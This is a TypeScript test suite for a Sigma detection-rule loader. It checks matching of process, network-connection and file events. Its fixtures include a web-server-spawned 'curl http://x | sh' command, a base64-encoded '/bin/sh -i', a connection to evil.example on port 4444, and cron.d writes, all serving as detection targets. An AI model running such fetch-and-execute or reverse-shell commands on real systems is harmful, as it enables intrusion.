/** Sigma rules as people keep them: every form loads, fires on what it means and on nothing else. */
import { describe, expect, it } from 'vitest';
import type { Connection, Peer } from '../../../src/model/connection.ts';
import type { Endpoint } from '../../../src/model/event.ts';
import type { Observation } from '../../../src/model/observation.ts';
import type { ProcessFacts } from '../../../src/model/process.ts';
import { loadRules } from '../../../src/rules/load.ts';
import { pod } from '../../support/observations.ts';
import { flowEvent, hook, processEvent, processes } from '../../support/rule-observations.ts';

const load = (...texts: string[]) => loadRules(texts.map((text, i) => ({ file: `r${i}.yml`, text })));

function sigma(detection: string, logsource = 'product: linux\n  category: process_creation'): string {
  return `title: A rule\nid: 6d1e5c1a-5a47-4f4e-9d1b-0a4b3f7c2d11\nlogsource:\n  ${logsource}\ndetection:\n${detection}\n`;
}

/** The rule's answer; fails unless it loads without a complaint. */
function fires(text: string, o: Observation): boolean {
  const { rules, diagnostics } = load(text);
  expect(diagnostics).toEqual([]);
  expect(rules).toHaveLength(1);
  const [branch] = rules[0]?.branches ?? [];
  return branch?.kinds.includes(o.event.kind) === true && branch.test(o);
}

const run = (facts: Partial<ProcessFacts>, parent: Partial<ProcessFacts> = {}): Observation =>
  processEvent({ process: processes(facts, parent) });
const bash = run(
  { binary: '/usr/bin/bash', arguments: '-c "curl http://x | sh"', user: 'www-data', auid: 0, cwd: '/var/www' },
  { binary: '/usr/sbin/nginx', arguments: '-g daemon off;' },
);

it.each<[string, Partial<ProcessFacts>, boolean, boolean]>([
  ['root by uid alone', { uid: 0 }, true, false],
  ['somebody by uid alone', { uid: 33 }, false, true],
  ['root by name', { uid: 0, user: 'root' }, true, false],
  ['uid 0 by another name', { uid: 0, user: 'toor' }, false, true],
  ['nobody knows', { uid: null }, false, false],
])('User: root, %s', (_, facts, is, other) => {
  const process = run({ binary: '/bin/sh', user: '', ...facts });
  expect(fires(sigma('  s:\n    User: root\n  condition: s'), process)).toBe(is);
  expect(fires(sigma('  s:\n    User|neq: root\n  condition: s'), process)).toBe(other);
});

describe('a selection', () => {
  it.each<[string, string, boolean]>([
    ['all fields of a map', '  s:\n    Image|endswith: /bash\n    User: www-data\n  condition: s', true],
    ['one field that differs', '  s:\n    Image|endswith: /bash\n    User: root\n  condition: s', false],
    ['a list of maps', '  s:\n    - User: root\n    - ParentImage|endswith: /nginx\n  condition: s', true],
    [
      'merged keys of another map',
      '  x: &x\n    Image|endswith: /bash\n  s:\n    <<: *x\n    User: www-data\n  condition: s and x',
      true,
    ],
    ['a list of values', '  s:\n    Image|endswith: [/zsh, /bash]\n  condition: s', true],
    ['contains all', "  s:\n    CommandLine|contains|all: ['curl', '| sh']\n  condition: s", true],
    ['contains all but one', "  s:\n    CommandLine|contains|all: ['curl', '| zsh']\n  condition: s", false],
    ['upper case', "  s:\n    CommandLine|contains: 'CURL HTTP'\n  condition: s", true],
    ['upper case, cased', "  s:\n    CommandLine|contains|cased: 'CURL HTTP'\n  condition: s", false],
    ['the reported form', `  s:\n    CommandLine: '/usr/bin/bash -c "curl http://x | sh"'\n  condition: s`, true],
    ['the form without added quotes', "  s:\n    CommandLine: 'bash -c curl http://x | sh'\n  condition: s", true],
    ['the base name alone', "  s:\n    CommandLine|startswith: 'bash -c'\n  condition: s", true],
    ['a regular expression', "  s:\n    CommandLine|re: 'curl\\s+https?://'\n  condition: s", true],
    ['a regular expression of another case', "  s:\n    CommandLine|re: 'CURL'\n  condition: s", false],
    ['a regular expression with |i', "  s:\n    CommandLine|re|i: 'CURL'\n  condition: s", true],
    ['a number as LogonId', '  s:\n    LogonId: 0\n  condition: s', true],
    ['numbers compared', '  s:\n    LogonId|lt: 1\n  condition: s', true],
    ['neq', '  s:\n    User|neq: root\n  condition: s', true],
    ['neq of an absent field', '  s:\n    ParentUser|neq: root\n    ParentLogonId|neq: 7\n  condition: s', false],
    ['a reference to a field', '  s:\n    Image|fieldref: ParentImage\n  condition: s', false],
    ['exists', '  s:\n    User|exists: true\n    ParentLogonId|exists: false\n  condition: s', true],
    ['null', '  s:\n    ParentLogonId: null\n  condition: s', true],
    ['null of what is there', '  s:\n    User: null\n  condition: s', false],
    ['empty text', "  s:\n    CurrentDirectory: ''\n  condition: s", false],
    ['empty text contained', "  s:\n    CurrentDirectory|contains: ''\n  condition: s", true],
    ['windash', "  s:\n    CommandLine|windash|contains: ' /c '\n  condition: s", true],
    ['wide alone, which no text is', '  s:\n    CommandLine|wide|contains: curl\n  condition: s', false],
    ['keywords', '  keywords:\n    - nothing\n    - curl http\n  condition: keywords', true],
    ['keywords, all', "  keywords:\n    '|all': [curl, nginx]\n  condition: keywords", false],
    ['maps and keywords in one list', '  s:\n    - User: root\n    - curl http\n  condition: s', true],
    ['1 of a pattern', '  sel_a:\n    User: root\n  sel_b:\n    User: www-data\n  condition: 1 of sel_*', true],
    ['all of a pattern', '  sel_a:\n    User: root\n  sel_b:\n    User: www-data\n  condition: all of sel_*', false],
    ['them without underscores', '  _x:\n    User: www-data\n  b:\n    User: root\n  condition: 1 of them', false],
    [
      'a filter of several',
      '  s:\n    User: www-data\n  f_a:\n    Image: /x\n  f_b:\n    Image: /y\n  condition: s and not 1 of f_*',
      true,
    ],
    [
      'precedence',
      '  a:\n    User: www-data\n  b:\n    Image: /x\n  c:\n    Image: /y\n  condition: a or b and c',
      true,
    ],
    ['a list of conditions', '  a:\n    User: root\n  b:\n    User: www-data\n  condition:\n    - a\n    - b', true],
    ['a selection that nothing uses', '  a:\n    User: www-data\n  b:\n    User: root\n  condition: a', true],
    ['an hour', '  s:\n    UtcTime|hour|gte: 0\n    UtcTime|year: 2026\n  condition: s', true],
    ['another year', '  s:\n    UtcTime|year: 1999\n  condition: s', false],
  ])('with %s', (_, detection, expected) => {
    expect(fires(sigma(detection), bash)).toBe(expected);
  });

  // The plain value, and what Sigma writes for it: backslashes escape wildcards and themselves, and stand for themselves elsewhere.
  it.each<[string, string, boolean]>([
    ['a\\b', 'a\\b', true],
    ['a\\\\b', 'a\\b', true],
    ['a\\*b', 'a*b', true],
    ['a\\*b', 'axb', false],
    ['a\\\\*b', 'a\\xxb', true],
    ['a\\\\\\*b', 'a\\*b', true],
    ['a\\\\\\*b', 'a\\xb', false],
    ['a\\\\\\b', 'a\\\\b', true],
    ['a\\\\\\\\b', 'a\\\\b', true],
    ['a?b', 'axb', true],
    ['a?b', 'ab', false],
    ['a*b', 'ab', true],
    ['a\\?b', 'a?b', true],
  ])('value %s and text %s: %s', (value, text, expected) => {
    expect(fires(sigma(`  s:\n    CurrentDirectory: '${value}'\n  condition: s`), run({ cwd: text }))).toBe(expected);
  });

  it.each([0, 1, 2])('base64offset at offset %d', offset => {
    const encoded = Buffer.from(`${'x'.repeat(offset)}/bin/sh -i`).toString('base64');
    const rule = sigma("  s:\n    CommandLine|base64offset|contains: '/bin/sh'\n  condition: s");
    expect(fires(rule, run({ binary: '/bin/echo', arguments: encoded }))).toBe(true);
    expect(fires(rule, run({ binary: '/bin/echo', arguments: 'L2Jpbi9' }))).toBe(false);
  });
});

const NO_ENDPOINT: Endpoint = {
  id: 0,
  identity: 0,
  namespace: '',
  podName: '',
  cluster: '',
  labels: [],
  workloads: [],
};

describe('a log source', () => {
  const tcp = flowEvent({ server: { ip: '203.0.113.9', port: 4444, names: ['evil.example'] } });
  it('of connections reads flows', () => {
    const rule = sigma(
      "  s:\n    DestinationIp|cidr: 203.0.113.0/24\n    DestinationPort: 4444\n    DestinationHostname|endswith: .example\n  f:\n    DestinationIp|cidr: ['10.0.0.0/8', 'fe80::/10']\n  condition: s and not f",
      'category: network_connection\n  product: linux',
    );
    expect(fires(rule, tcp)).toBe(true);
    expect(fires(rule, bash)).toBe(false);
  });

  it('knows which pod opened a connection, though not which process', () => {
    const rule = sigma("  s:\n    Initiated: 'true'\n  condition: s", 'category: network_connection\n  product: linux');
    const inside = { ...tcp, pod: pod('shop/cart') };
    const endpoint = { ...NO_ENDPOINT, namespace: 'shop', podName: 'cart' };
    const client = { ...(tcp.client as Peer), endpoint };
    const connection = (peers: Partial<Connection>): Observation => ({
      ...inside,
      connection: {
        client: tcp.client,
        server: tcp.server,
        process: null,
        serverProcess: null,
        ...peers,
      } as Connection,
    });
    expect(fires(rule, connection({ client }))).toBe(true);
    expect(fires(rule, connection({ server: { ...(tcp.server as Peer), endpoint } }))).toBe(false);
    expect(fires(rule, connection({}))).toBe(false);
  });

  it('of written files does not speak of those that are only read', () => {
    const detection = '  s:\n    TargetFilename|startswith: /etc/cron.d/\n  condition: s';
    const opened = (mask: number): Observation =>
      hook('security_file_permission', ['file', { path: '/etc/cron.d/x' }], ['int', mask]);
    const removed = hook('security_path_unlink', ['path', { path: '/etc/cron.d/x' }]);
    const event = sigma(detection, 'product: linux\n  category: file_event');
    expect([opened(2), opened(4)].map(o => fires(event, o))).toEqual([true, false]);
    const access = sigma(detection, 'product: linux\n  category: file_access');
    expect([opened(2), opened(4)].map(o => fires(access, o))).toEqual([true, true]);
    const deleted = sigma(detection, 'product: linux\n  category: file_delete');
    expect([opened(2), removed].map(o => fires(deleted, o))).toEqual([false, true]);
  });

  it.each([
    ['product: windows\n  category: process_creation', 'skipped', /windows/],
    ['product: aws\n  service: cloudtrail', 'skipped', /aws/],
    ['category: webserver', 'skipped', /web servers/],
    ['product: linux\n  service: auditd', 'unsupported', /auditd/],
    ['product: linux\n  service: sshd', 'unsupported', /sshd/],
    ['product: linux\n  category: image_load', 'unsupported', /image_load/],
    ['product: linux\n  category: file_event', 'needs', /policy\.file/],
    ['product: linux\n  category: process_creation', 'native', null],
  ])('%s is %s', (logsource, status, reason) => {
    const {
      diagnostics,
      sigma: outcomes,
      rules,
    } = load(
      sigma('  s:\n    TargetFilename: x\n  condition: s', logsource).replace(
        'TargetFilename',
        status === 'native' ? 'Image' : 'TargetFilename',
      ),
    );
    expect(diagnostics.filter(d => d.severity === 'error')).toEqual([]);
    expect(outcomes).toMatchObject([{ file: 'r0.yml', title: 'A rule', kind: 'rule', status }]);
    expect(rules).toHaveLength(status === 'native' || status === 'needs' ? 1 : 0);
    if (reason === null) expect(outcomes[0]?.reasons).toEqual([]);
    else expect(outcomes[0]?.reasons[0]?.text).toMatch(reason);
  });
});

describe('what is not supported', () => {
  it('says so at its place, and is no error', () => {
    const { diagnostics, sigma: outcomes } = load(sigma('  s:\n    Image: /x\n    Imphash: abc\n  condition: s'));
    expect(diagnostics).toMatchObject([{ code: 'sigma-unsupported', severity: 'warning', line: 9, column: 5 }]);
    expect(outcomes).toMatchObject([{ status: 'unsupported', reasons: [{ line: 9, column: 5 }] }]);
  });

  it.each([
    ['look-around', "  s:\n    CommandLine|re: 'a(?=b)'\n  condition: s"],
    ['possessive repetition', "  s:\n    CommandLine|re: 'a++'\n  condition: s"],
    ['back-references', "  s:\n    CommandLine|re: '(a)\\1'\n  condition: s"],
    ['aggregations', '  s:\n    Image: /x\n  condition: s | count() by User > 3'],
    ['timeframe', '  s:\n    Image: /x\n  timeframe: 5m\n  condition: s'],
    ['placeholders without a list', "  s:\n    Image|expand: '%tools%'\n  condition: s"],
  ])('%s', (_, detection) => {
    const { diagnostics, sigma: outcomes } = load(sigma(detection));
    expect(diagnostics.map(d => d.code)).toEqual(['sigma-unsupported']);
    expect(outcomes[0]?.status).toBe('unsupported');
  });

  it('more forms of dashes than can be looked for', () => {
    const values = Array.from({ length: 15_000 }, (_, i) => `'-a${i} -b -c -d'`).join(', ');
    const { rules, diagnostics } = load(sigma(`  s:\n    CommandLine|windash|contains: [${values}]\n  condition: s`));
    expect(rules).toEqual([]);
    expect(diagnostics.map(d => d.code)).toEqual(['bad-selection']);
    expect(diagnostics[0]?.message).toContain('more than 20000 patterns');
  });

  it('but what is wrong is an error', () => {
    const { diagnostics, sigma: outcomes } = load(sigma('  s:\n    Image: /x\n  condition: s and other'));
    expect(diagnostics.map(d => d.code)).toEqual(['undefined-selection']);
    expect(outcomes[0]?.status).toBe('broken');
  });
});

describe('a file', () => {
  it('keeps what the rule says of itself, and needs little', () => {
    const { rules, diagnostics } = load(
      `${sigma('  s:\n    Image: /x\n  condition: s')}author: A, B\ntags: [attack.T1059]\nrelated:\n  - {id: x, type: similar}\nfields: [Image]\nsimulation: {own: key}\nfalsepositives: none\n`,
      'title: No level, no id\nlogsource: {product: linux, category: process_creation}\ndetection: {s: {Image: /x}, condition: s}\n',
    );
    expect(diagnostics).toEqual([]);
    expect(rules[0]).toMatchObject({
      author: 'A, B',
      tags: ['attack.t1059'],
      falsepositives: ['none'],
      level: 'medium',
    });
    expect(rules[1]).toMatchObject({ level: 'medium', author: '' });
    expect(rules[1]?.id).toBe(rules[1]?.hash);
  });

  it.each(['deprecated', 'unsupported', 'Deprecated'])('of the status %s is passed over, whatever is in it', status => {
    const text = `${sigma('  s:\n    NoSuchField: /x\n  condition: s')}status: ${status}\n`;
    const { rules, diagnostics, sigma: outcomes } = load(text);
    expect([rules, diagnostics]).toEqual([[], []]);
    const reason = { text: `${status.toLowerCase()}, as it says of itself`, line: text.split('\n').length - 1 };
    expect(outcomes).toMatchObject([{ status: 'skipped', kind: 'rule', reasons: [reason] }]);
  });

  it('says where it only nearly gets what it asks for', () => {
    const program = sigma(
      '  s:\n    - OriginalFileName|endswith: x\n      Image: /x\n    - OriginalFileName: y\n  condition: s',
    );
    expect(load(program).sigma[0]).toMatchObject({
      status: 'native',
      approximates: [{ text: expect.stringMatching(/^OriginalFileName/), line: 8, column: 7 }],
    });
    const written = sigma('  s:\n    TargetFilename: /x\n  condition: s', 'category: file_event\n  product: linux');
    expect(load(written).sigma[0]).toMatchObject({
      status: 'needs',
      approximates: [{ text: expect.stringMatching(/^file_event/), line: 4, column: 3 }],
    });
    expect(load(sigma('  s:\n    Image: /x\n  condition: s')).sigma[0]?.approximates).toEqual([]);
  });

  it('with the legacy action: documents', () => {
    const { rules, diagnostics } = load(
      'action: global\ntitle: Shared\nlevel: high\nlogsource: {product: linux}\n---\nid: a\nlogsource: {category: process_creation}\ndetection: {s: {Image: /x}, condition: s}\n---\naction: repeat\nid: b\ndetection: {s: {Image: /y}}\n---\naction: reset\n---\ntitle: Alone\nid: c\nlogsource: {category: process_creation}\ndetection: {s: {Image: /z}, condition: s}\n',
    );
    expect(diagnostics).toEqual([]);
    expect(rules.map(rule => [rule.id, rule.title, rule.level])).toEqual([
      ['a', 'Shared', 'high'],
      ['b', 'Shared', 'high'],
      ['c', 'Alone', 'medium'],
    ]);
    expect(rules[1]?.branches[0]?.test(run({ binary: '/y' }))).toBe(true);
    expect(rules[1]?.branches[0]?.test(run({ binary: '/x' }))).toBe(false);
  });

  it('for another product is told by its text just as by the parser', () => {
    const plain = sigma(
      '  s:\n    Image: /x\n  condition: s',
      'category: process_creation\n  product: windows # of all versions',
    );
    const flow = plain.replace(
      /logsource:\n[\s\S]*?\ndetection/,
      'logsource: {category: process_creation,\n  product: windows}\ndetection',
    );
    const [byText, byParser] = [load(plain), load(flow)];
    expect([byText.rules, byText.diagnostics]).toEqual([[], []]);
    expect(byText.sigma).toEqual([
      { ...byParser.sigma[0], reasons: [{ text: 'events of windows, not of Linux', line: 5, column: 12 }] },
    ]);
    const quoted = load(plain.replace('windows', "'Windows'"), plain.replace('windows', 'linux'));
    expect(quoted.sigma.map(outcome => [outcome.file, outcome.status])).toEqual([
      ['r0.yml', 'skipped'],
      ['r1.yml', 'native'],
    ]);
    const native = load(plain.replace('detection:', 'taxonomy: spoor\ndetection:'));
    expect(native.diagnostics.map(d => d.code)).toContain('unsupported');
  });
});
